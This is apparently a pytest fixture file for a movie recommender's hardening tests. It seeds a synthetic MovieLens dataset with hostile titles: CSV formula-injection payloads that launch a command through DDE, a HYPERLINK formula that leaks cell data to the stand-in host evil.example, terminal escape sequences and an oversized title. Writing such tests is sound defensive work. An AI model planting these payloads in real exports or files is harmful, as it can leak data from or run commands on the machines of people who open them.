"""Hostile inputs shared by the hardening tests: a dataset whose titles carry formulas,
links, icons, control characters and 5,000 characters, and a bundle trained on it."""

from __future__ import annotations

from pathlib import Path

import pandas as pd
import pytest

from recsys.columns import MOVIE_ID, TITLE
from recsys.dataset.synth import write_synthetic

FORMULA_TITLES = (
    '=HYPERLINK("http://evil.example/?leak="&B3,"Open trailer")&""&(2001)',
    "+cmd|' /C calc'!A0 (2002)",
    "-2+3+cmd|' /C calc'!A0 (2003)",
    "@SUM(1+1)*cmd|' /C calc'!A0 (2004)",
    "Foo;=2+3;bar (2005)",
    "Foo,=2+3,bar (2006)",
)
LINK_TITLE = "Trailer https://evil.example/login www.evil.example mail@evil.example (2007)"
ICON_TITLE = ":material/home: :smile: :red[red] (2008)"
CONTROL_TITLE = "Bell\x07 and \x1b[31mred\x1b[0m \x1b]0;owned\x07 (2009)"
LONG_TITLE = "L" * 5000 + " (2010)"
HOSTILE_TITLES = (*FORMULA_TITLES, LINK_TITLE, ICON_TITLE, CONTROL_TITLE, LONG_TITLE)


def write_hostile_titles(folder: Path, seed: int = 5) -> dict[str, int]:
    """A small synthetic MovieLens folder whose most-rated movies carry the hostile
    titles; returns {title: movieId}."""
    write_synthetic(folder, 80, 120, 4000, rng=seed)
    ratings = pd.read_csv(folder / "ratings.csv")
    most_rated = ratings[MOVIE_ID].value_counts().index[: len(HOSTILE_TITLES)]
    movies = pd.read_csv(folder / "movies.csv", keep_default_na=False)
    ids = {}
    for title, movie_id in zip(HOSTILE_TITLES, most_rated, strict=True):
        movies.loc[movies[MOVIE_ID] == movie_id, TITLE] = title
        ids[title] = int(movie_id)
    movies.to_csv(folder / "movies.csv", index=False, lineterminator="\n")
    return ids


@pytest.fixture(scope="session")
def hostile_titles(tmp_path_factory) -> tuple[Path, Path, dict[str, int]]:
    """(data folder, artifacts folder, {title: movieId}), trained once (2 epochs)."""
    from tests.helpers import train_small_bundle

    root = tmp_path_factory.mktemp("hostile-titles")
    ids = write_hostile_titles(root / "data")
    train_small_bundle(root / "data", root / "artifacts", epochs=2, preset="full")
    return root / "data", root / "artifacts", ids
